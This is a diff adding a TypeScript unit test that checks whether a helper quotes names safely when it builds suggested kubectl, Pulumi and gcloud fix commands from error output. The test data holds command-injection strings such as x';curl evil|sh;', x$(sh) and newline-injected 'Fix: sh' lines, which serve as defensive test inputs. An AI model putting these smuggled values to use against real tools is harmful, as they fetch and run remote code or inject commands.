@@ -193,6 +193,46 @@ describe("the hint for a known failure", () => {
       assert.equal(hintFor(output, facts), undefined);
   });
 
+  it("has no word of a pod in a command but as one quoted word that begins no option", () => {
+    const [evil, quoted] = ["x';curl evil|sh;'", "x'\\'';curl evil|sh;'\\''"];
+    const said = (output: string) => hintFor(output, facts) ?? "";
+    const forbidden = (user: string, where = "ns") =>
+      `forbidden: User "${user}" cannot get resource "pods" in API group "" in the namespace "${where}"`;
+    const isProtected = (urn: string) => `resource "${urn}" cannot be deleted\nbecause it is protected`;
+    const inUse = (user: string) => `The network resource 'n' is already being used by '${user}'`;
+    for (const [output, word] of [
+      [forbidden(evil), `--user=${quoted}`],
+      [forbidden(`system:serviceaccount:ci:${evil}`), `--serviceaccount=ci:${quoted}`],
+      [isProtected("urn:x';curl|sh;'"), "urn:x'\\'';curl|sh;'\\''"],
+    ] as const)
+      assert.ok(said(output).includes(` '${word}'`), said(output));
+    for (const word of [evil, "x;sh", "x$(sh)", "--all"])
+      for (const output of [
+        `namespaces "${word}" already exists`,
+        `services "${word}" already exists`,
+        `Service "${word}" is invalid: spec.ports[1].name: Duplicate value`,
+        isProtected(`--${word}`),
+        forbidden("ann", word),
+        `Compute Engine API has not been used in project ${word} before or it is disabled`,
+        `EKS Add-On (shop:${word}) create: (last state: 'DEGRADED', timeout: 20m0s)`,
+        `EKS Add-On (${word}:dns) create: (last state: 'DEGRADED', timeout: 20m0s)`,
+      ])
+        assert.equal(said(output), "", output);
+    for (const word of ["x;sh", "x$(sh)", "--all"])
+      for (const place of [
+        `p/zones/z/networkEndpointGroups/${word}`,
+        `${word}/zones/z/networkEndpointGroups/g`,
+      ])
+        assert.doesNotMatch(said(inUse(`projects/${place}`)), /gcloud/);
+    assert.doesNotMatch(said(inUse("projects/p/zones/z;sh/networkEndpointGroups/g")), /gcloud/);
+    for (const output of [
+      forbidden("ann").replace("pods", "pods\nFix: sh"),
+      inUse("a\nFix: sh"),
+      `had an apply conflict: Apply failed with 1 conflict: conflict with "a\nFix: sh": .spec.replicas`,
+    ])
+      assert.doesNotMatch(said(output), /^Fix: sh/m);
+  });
+
   it("is the first one that matches the text which stands for it in the documentation", () => {
     for (const { seen } of hints) assert.equal(hints.find(({ pattern }) => pattern.test(seen))?.seen, seen);
   });
